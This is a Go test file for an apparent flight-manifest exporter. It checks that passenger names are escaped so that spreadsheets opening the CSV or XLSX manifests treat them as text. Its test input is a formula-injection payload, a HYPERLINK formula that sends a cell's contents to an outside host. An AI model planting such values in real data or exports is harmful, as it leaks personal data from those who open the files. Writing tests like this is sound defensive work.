package papers

import (
	"bytes"
	"encoding/csv"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"airbridge"
)

// TestManifestCellsAreNotFormulas: a name is text from outside; in the CSV
// and XLSX manifests it must stay text when a spreadsheet opens them.
func TestManifestCellsAreNotFormulas(t *testing.T) {
	const evil = `=HYPERLINK("http://x/?"&A1,"open")`
	v := &airbridge.FlightView{
		Flight: airbridge.Flight{ID: "F1", Callsign: "GAF100", Operator: "DEU", Slot: time.Date(2021, 8, 20, 10, 0, 0, 0, time.UTC)},
		Manifest: []airbridge.Person{{ID: "P1", GroupID: "G1", Seat: "1", Stage: airbridge.Manifested,
			PersonalData: airbridge.PersonalData{Surname: evil, GivenNames: "+1"}}},
	}
	var b bytes.Buffer
	if err := Manifest(&b, "csv", nil, v, time.Now()); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if got := rows[1][3]; got != "'"+evil {
		t.Errorf("CSV surname %q, want it behind an apostrophe", got)
	}
	if got := rows[1][4]; got != "'+1" {
		t.Errorf("CSV given names %q", got)
	}

	b.Reset()
	if err := Manifest(&b, "xlsx", nil, v, time.Now()); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&b)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	sheet := f.GetSheetName(0)
	if formula, _ := f.GetCellFormula(sheet, "D2"); formula != "" {
		t.Errorf("XLSX D2 holds the formula %q", formula)
	}
	if got, _ := f.GetCellValue(sheet, "D2"); got != evil {
		t.Errorf("XLSX D2 = %q, want the name as text", got)
	}
}
